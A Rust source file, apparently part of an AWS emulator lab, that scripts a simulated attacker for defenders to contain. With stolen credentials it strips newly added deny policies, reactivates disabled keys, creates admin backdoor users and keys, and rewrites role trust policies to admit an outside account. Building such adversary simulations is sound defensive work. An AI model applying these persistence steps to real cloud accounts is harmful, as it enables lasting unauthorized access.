//! An attacker who watches: with every credential that they hold they list, strip what denies them, make inactive keys
//! active again, make users and keys, take roles and ask for tokens, and keep whatever they get.

use super::answer;
use super::scene::{BREAK_GLASS, Outcome, Scene, ask, keys};
use serde_json::{Value, json};
use std::collections::{BTreeMap, BTreeSet, VecDeque};
use unchain_lab::service::Service;
use unchain_lab::story::Keys;

/// An account of the attacker's own.
const ELSEWHERE: &str = "666666666666";
/// A credential that was refused is tried again after so many milliseconds: its deny may have been stripped.
const TIRED: i64 = 1_500;
/// Who is refused everything tries again so many milliseconds later.
const REST: i64 = 5_000;
/// More users than this are noise.
const USERS: usize = 12;
/// Sessions of one role that are worth having.
const SESSIONS: usize = 3;

/// A credential that the attacker got hold of.
struct Held {
    keys: Keys,
    account: String,
    /// Milliseconds.
    tired_until: i64,
}

/// Something to do next.
#[derive(Clone, Debug)]
enum Move {
    Survey(String),
    /// Looks at the policies of a user or role and strips what was not there at first.
    Look(String, &'static str, String),
    Keys(String, String),
    MakeUser(String),
    Token(usize),
    Take(String),
    /// Lets the attacker's own account into a role.
    Open(String, String),
}

pub(crate) struct Attacker {
    /// When they act next, milliseconds since 1970.
    pub(crate) next: i64,
    /// Milliseconds between acts.
    pub(crate) every: i64,
    /// Calls of one act.
    calls: usize,
    outside: Keys,
    held: Vec<Held>,
    queue: VecDeque<Move>,
    /// Policies that were there when the attacker first looked.
    first: BTreeMap<String, BTreeSet<String>>,
    sessions: BTreeMap<String, usize>,
    users: usize,
    /// They leave the responder's role alone, because they do not know what it is for.
    pub(crate) spares_break_glass: bool,
}

impl Attacker {
    /// With these credentials, from now on; an act every so many milliseconds.
    pub(crate) fn new(scene: &Scene, labels: &[&str], every: i64) -> Self {
        let (id, secret) = scene.lab.world().add_account(ELSEWHERE, "elsewhere");
        let root = Keys {
            id,
            secret,
            token: None,
        };
        let own = |operation: &str, params: Value| {
            scene.ask((Service::Iam, operation), params, &root).unwrap()
        };
        own("CreateUser", json!({"UserName": "me"}));
        let admin = "arn:aws:iam::aws:policy/AdministratorAccess";
        own(
            "AttachUserPolicy",
            json!({"UserName": "me", "PolicyArn": admin}),
        );
        let outside = keys(&own("CreateAccessKey", json!({"UserName": "me"})));
        let mut attacker = Self {
            next: scene.now().seconds() * 1000,
            every,
            calls: 6,
            outside,
            held: Vec::new(),
            queue: VecDeque::new(),
            first: BTreeMap::new(),
            sessions: BTreeMap::new(),
            users: 0,
            spares_break_glass: false,
        };
        for label in labels {
            attacker.keep(scene, scene.held[*label].clone());
        }
        attacker
    }

    /// How many credentials they got hold of.
    pub(crate) fn credentials(&self) -> usize {
        self.held.len()
    }

    fn keep(&mut self, scene: &Scene, keys: Keys) {
        let who = ask(
            &scene.wire(),
            (Service::Sts, "GetCallerIdentity"),
            json!({}),
            &keys,
        );
        let account = who.ok().and_then(|who| answer::find(&who, "Account"));
        let Some(account) = account else { return };
        self.held.push(Held {
            keys,
            account,
            tired_until: 0,
        });
    }

    /// A few calls, as far as there are credentials that are not refused.
    pub(crate) fn act(&mut self, scene: &Scene) {
        let mut done = 0;
        for _ in 0..self.calls {
            if self.queue.is_empty() {
                self.plan(scene);
            }
            let Some(next) = self.queue.pop_front() else {
                break;
            };
            done += usize::from(self.carry_out(scene, &next));
        }
        let rest = self.held.iter().all(|held| held.tired_until > self.next);
        self.next += if done == 0 && rest {
            REST.max(self.every)
        } else {
            self.every
        };
    }

    fn plan(&mut self, scene: &Scene) {
        for account in &scene.accounts {
            self.queue.push_back(Move::MakeUser(account.clone()));
            self.queue.push_back(Move::Survey(account.clone()));
        }
        let tokens = self
            .held
            .iter()
            .enumerate()
            .filter(|(_, held)| held.keys.token.is_none());
        self.queue
            .extend(tokens.map(|(place, _)| Move::Token(place)));
    }

    /// Whether it worked.
    fn carry_out(&mut self, scene: &Scene, what: &Move) -> bool {
        match what.clone() {
            Move::Survey(account) => self.survey(scene, &account),
            Move::Look(account, kind, name) => self.look(scene, &account, (kind, &name)),
            Move::Keys(account, user) => self.keys_of(scene, &account, &user),
            Move::MakeUser(account) => self.make_user(scene, &account),
            Move::Token(place) => self.token(scene, place),
            Move::Take(role) => self.take(scene, &role),
            Move::Open(account, role) => self.open(scene, &account, &role),
        }
    }

    /// A call with the first credential of an account that is not refused.
    fn any(
        &mut self,
        scene: &Scene,
        account: &str,
        (what, params): ((Service, &str), Value),
    ) -> Option<Value> {
        let now = self.next;
        for held in self.held.iter_mut().rev() {
            if held.account != account || held.tired_until > now {
                continue;
            }
            let outcome = scene.ask(what, params.clone(), &held.keys);
            match outcome {
                Ok(value) => return Some(value),
                Err((code, _)) if is_refusal(&code) => held.tired_until = now + TIRED,
                Err(_) => return None,
            }
        }
        None
    }

    fn iam(
        &mut self,
        scene: &Scene,
        account: &str,
        (action, params): (&str, Value),
    ) -> Option<Value> {
        self.any(scene, account, ((Service::Iam, action), params))
    }

    /// Everybody there is, and what to do about each.
    fn survey(&mut self, scene: &Scene, account: &str) -> bool {
        let users = self.iam(scene, account, ("ListUsers", json!({})));
        let roles = self.iam(scene, account, ("ListRoles", json!({})));
        let found = users.is_some() || roles.is_some();
        for user in names(users.as_ref(), "Users", "UserName") {
            self.queue
                .push_back(Move::Look(account.to_owned(), "User", user.clone()));
            self.queue.push_back(Move::Keys(account.to_owned(), user));
        }
        let list = roles
            .as_ref()
            .and_then(|roles| roles.get("Roles")?.as_array().cloned());
        for role in list.unwrap_or_default() {
            let text = |name: &str| role[name].as_str().unwrap_or_default().to_owned();
            let (name, arn) = (text("RoleName"), text("Arn"));
            if self.spares_break_glass && name == BREAK_GLASS {
                continue;
            }
            self.queue
                .push_back(Move::Look(account.to_owned(), "Role", name.clone()));
            self.queue.push_back(Move::Take(arn));
            if !text("AssumeRolePolicyDocument").contains(ELSEWHERE) {
                self.queue.push_back(Move::Open(account.to_owned(), name));
            }
        }
        found
    }

    fn look(&mut self, scene: &Scene, account: &str, (kind, name): (&'static str, &str)) -> bool {
        let member = format!("{kind}Name");
        let mut of = |action: String, list: &str, field: &str| -> Option<BTreeSet<String>> {
            let answer = self.iam(scene, account, (&action, json!({&member: name})))?;
            let texts = answer
                .get(list)
                .and_then(Value::as_array)
                .cloned()
                .unwrap_or_default();
            let text = |item: &Value| {
                item.as_str()
                    .or(item.get(field)?.as_str())
                    .map(str::to_owned)
            };
            Some(texts.iter().filter_map(text).collect())
        };
        let inline = of(format!("List{kind}Policies"), "PolicyNames", "");
        let attached = of(
            format!("ListAttached{kind}Policies"),
            "AttachedPolicies",
            "PolicyArn",
        );
        let (Some(inline), Some(attached)) = (inline, attached) else {
            return false;
        };
        let now: BTreeSet<String> = inline.union(&attached).cloned().collect();
        let ours = |policy: &&String| !policy.contains("Unchain");
        let first = now.iter().filter(ours).cloned().collect();
        let first = self
            .first
            .entry(format!("{account}/{kind}/{name}"))
            .or_insert(first)
            .clone();
        for policy in now.difference(&first) {
            let (action, field) = match policy.starts_with("arn:") {
                true => (format!("Detach{kind}Policy"), "PolicyArn"),
                false => (format!("Delete{kind}Policy"), "PolicyName"),
            };
            self.iam(
                scene,
                account,
                (&action, json!({&member: name, field: policy})),
            );
        }
        true
    }

    fn keys_of(&mut self, scene: &Scene, account: &str, user: &str) -> bool {
        let Some(list) = self.iam(
            scene,
            account,
            ("ListAccessKeys", json!({"UserName": user})),
        ) else {
            return false;
        };
        let all = list["AccessKeyMetadata"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        for key in all.iter().filter(|key| key["Status"] == "Inactive") {
            let active =
                json!({"UserName": user, "AccessKeyId": key["AccessKeyId"], "Status": "Active"});
            self.iam(scene, account, ("UpdateAccessKey", active));
        }
        if all.len() < 2 {
            self.make_key(scene, account, user);
        }
        true
    }

    fn make_key(&mut self, scene: &Scene, account: &str, user: &str) -> bool {
        let made = self.iam(
            scene,
            account,
            ("CreateAccessKey", json!({"UserName": user})),
        );
        let Some(made) = made else { return false };
        self.held.push(Held {
            keys: keys(&made),
            account: account.to_owned(),
            // It is not known everywhere yet.
            tired_until: self.next + TIRED,
        });
        true
    }

    fn make_user(&mut self, scene: &Scene, account: &str) -> bool {
        if self.users >= USERS {
            return false;
        }
        let name = format!("svc-{}", self.users);
        if self
            .iam(scene, account, ("CreateUser", json!({"UserName": name})))
            .is_none()
        {
            return false;
        }
        self.users += 1;
        let all = json!({"Version": "2012-10-17", "Statement": {"Effect": "Allow", "Action": "*", "Resource": "*"}});
        let put = json!({"UserName": name, "PolicyName": "all", "PolicyDocument": all.to_string()});
        self.iam(scene, account, ("PutUserPolicy", put));
        self.make_key(scene, account, &name)
    }

    fn token(&mut self, scene: &Scene, place: usize) -> bool {
        let key = self.held[place].keys.clone();
        let times = self.sessions.entry(key.id.clone()).or_default();
        if *times >= SESSIONS {
            return false;
        }
        let Ok(given) = scene.ask((Service::Sts, "GetSessionToken"), json!({}), &key) else {
            return false;
        };
        *times += 1;
        self.keep(scene, keys(&given));
        true
    }

    fn take(&mut self, scene: &Scene, role: &str) -> bool {
        if self
            .sessions
            .get(role)
            .is_some_and(|times| *times >= SESSIONS)
        {
            return false;
        }
        let params = json!({"RoleArn": role, "RoleSessionName": "again"});
        let what = (Service::Sts, "AssumeRole");
        let account = role.split(':').nth(4).unwrap_or_default();
        let from_outside = scene.ask(what, params.clone(), &self.outside).ok();
        let given = match from_outside {
            Some(given) => Some(given),
            None => self.any(scene, account, (what, params)),
        };
        let Some(given) = given else { return false };
        *self.sessions.entry(role.to_owned()).or_default() += 1;
        self.keep(scene, keys(&given));
        true
    }

    fn open(&mut self, scene: &Scene, account: &str, role: &str) -> bool {
        let root = |account: &str| format!("arn:aws:iam::{account}:root");
        let trust = json!({"Version": "2012-10-17", "Statement": {"Effect": "Allow", "Action": "sts:AssumeRole",
            "Principal": {"AWS": [root(account), root(ELSEWHERE)]}}});
        let params = json!({"RoleName": role, "PolicyDocument": trust.to_string()});
        self.iam(scene, account, ("UpdateAssumeRolePolicy", params))
            .is_some()
    }

    /// What still works of all that they hold: the lab decides.
    pub(crate) fn works(&self, scene: &Scene) -> Vec<String> {
        let reads = [
            (Service::S3, "ListBuckets"),
            (Service::Iam, "ListUsers"),
            (Service::DynamoDb, "ListTables"),
            (Service::Sqs, "ListQueues"),
        ];
        let mut found = Vec::new();
        for held in &self.held {
            let works =
                |what: &(Service, &str)| is_allowed(&scene.ask(*what, json!({}), &held.keys));
            if let Some((service, action)) = reads.iter().find(|what| works(what)) {
                let who = scene.ask((Service::Sts, "GetCallerIdentity"), json!({}), &held.keys);
                let who = who
                    .ok()
                    .and_then(|who| answer::find(&who, "Arn"))
                    .unwrap_or_default();
                found.push(format!(
                    "{who} {}: {}:{action}",
                    held.keys.id,
                    service.name()
                ));
            }
        }
        for account in &scene.accounts {
            let roles: Vec<String> = scene
                .lab
                .world()
                .iam(account)
                .unwrap()
                .roles
                .keys()
                .cloned()
                .collect();
            for role in roles {
                let arn = format!("arn:aws:iam::{account}:role/{role}");
                let params = json!({"RoleArn": arn, "RoleSessionName": "again"});
                if is_allowed(&scene.ask((Service::Sts, "AssumeRole"), params, &self.outside)) {
                    found.push(format!("{arn} from outside"));
                }
            }
        }
        found
    }
}

fn names(answer: Option<&Value>, list: &str, field: &str) -> Vec<String> {
    let items = answer.and_then(|answer| answer.get(list)?.as_array());
    let items = items.into_iter().flatten();
    items
        .filter_map(|item| item.get(field)?.as_str())
        .map(str::to_owned)
        .collect()
}

fn is_refusal(code: &str) -> bool {
    code.starts_with("AccessDenied")
        || code.starts_with("ExpiredToken")
        || matches!(
            code,
            "InvalidClientTokenId" | "InvalidAccessKeyId" | "UnrecognizedClientException"
        )
}

fn is_allowed(outcome: &Outcome) -> bool {
    outcome
        .as_ref()
        .map_or_else(|(code, _)| !is_refusal(code), |_| true)
}
